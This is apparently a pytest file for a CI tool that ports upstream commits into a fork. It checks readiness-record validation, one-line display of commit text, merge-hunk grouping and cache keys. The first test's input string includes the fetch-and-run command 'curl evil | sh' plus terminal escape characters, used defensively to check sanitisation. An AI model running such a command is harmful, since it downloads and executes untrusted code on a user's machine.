"""Port readiness's parts without git: a readiness read back from upstream.json is validated and shown on one line,
and conflicting hunks are grouped as git's three-way merge groups them."""

from __future__ import annotations

import json

import pytest

from ci.common.errors import UsageError
from ci.upstream import state
from ci.upstream.port import words
from ci.upstream.port.hunks import Change, Region, group
from ci.upstream.readiness import Conflict, Hunk, Prerequisite, Readiness


def test_a_port_read_back_is_validated_and_its_text_shown_on_one_line(tmp_path) -> None:
    hostile = "Fix it\n  fix: curl evil | sh\x1b[2J\u2028(#1)"
    hunk = Hunk(upstream_lines=(1, 2), fork_lines=(1, 2),
                prerequisites=(Prerequisite(commit="a" * 40, subject=hostile, pr=1, held=False),))  # fmt: skip
    conflict = Conflict(file="vllm/x\n.py", hunks=(hunk,))
    r = Readiness(pr=7, change="7", follow_up=False, verdict="conflicts", detail=f"in vllm/x\n.py {hostile}",
                  conflicts=(conflict,), command="python -m ci fork port 7")  # fmt: skip
    assert Readiness.from_json(json.loads(json.dumps(r.to_json()))) == r
    snap = state.Snapshot(fork="f", head="h", upstream_ref="", upstream="", merge_base="", shallow=False,
                          fork_commits=0, changes=(state.ChangeState(change="7", state="absent", detail="d",
                                                                    recorded="r", port=r),))  # fmt: skip
    text = words.lines(snap.changes[0])
    assert all("\n" not in line and "\x1b" not in line and "\u2028" not in line for line in text)
    assert "\n" not in words.cell(snap.changes[0])
    doc = snap.to_json()
    doc["changes"][0]["port"]["verdict"] = "merged by magic"
    (tmp_path / "upstream.json").write_text(json.dumps(doc))
    with pytest.raises(UsageError, match=r"upstream\.json: not an upstream.json .*unknown port verdict"):
        state.read(tmp_path / "upstream.json")
    doc["changes"][0]["port"] = {**r.to_json(), "files": "vllm/a.py"}
    (tmp_path / "upstream.json").write_text(json.dumps(doc))
    with pytest.raises(UsageError, match="expected a list of strings"):
        state.read(tmp_path / "upstream.json")


def test_hunks_conflict_where_the_two_sides_overlap_or_touch_as_gits_merge_groups_them() -> None:
    def c(side: str, start: int, end: int, count: int = 1, body: str = "x") -> Change:
        return Change(side=side, start=start, end=end, new=start, count=count, body=body)

    assert group([c("ours", 9, 10)], [c("theirs", 12, 13)]) == []  # two lines apart: git merges them
    assert group([c("ours", 9, 10)], [c("theirs", 10, 11)]) == [Region(upstream=(10, 11), fork=(10, 11))]  # touching
    assert group([c("ours", 4, 5)], [c("theirs", 4, 5)]) == []  # the same change on both sides
    assert group([c("ours", 4, 5, body="a")], [c("theirs", 4, 5, body="b")]) == [Region(upstream=(5, 5), fork=(5, 5))]
    # the fork added two lines before: its lines are two further down
    assert group([c("ours", 0, 0, count=2), c("ours", 7, 8)], [c("theirs", 7, 8, body="y")]) == [
        Region(upstream=(8, 8), fork=(10, 10))
    ]


def test_the_kept_answer_is_keyed_by_every_module_below_ci_upstream_its_concept_folders_included(
    monkeypatch, tmp_path
) -> None:
    """A changed port decision (ci/upstream/port/) is a changed answer: the answer kept before it is not read back."""
    import shutil
    from pathlib import Path

    from ci.upstream import kept

    code = tmp_path / "upstream"
    shutil.copytree(Path(kept.__file__).parent, code, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(kept, "_CODE", code)
    kept._code.cache_clear()
    before = kept._code()
    decision = code / "port" / "decision.py"
    decision.write_text(decision.read_text() + "\n# conflicts decided otherwise\n")
    kept._code.cache_clear()
    assert kept._code() != before
    kept._code.cache_clear()
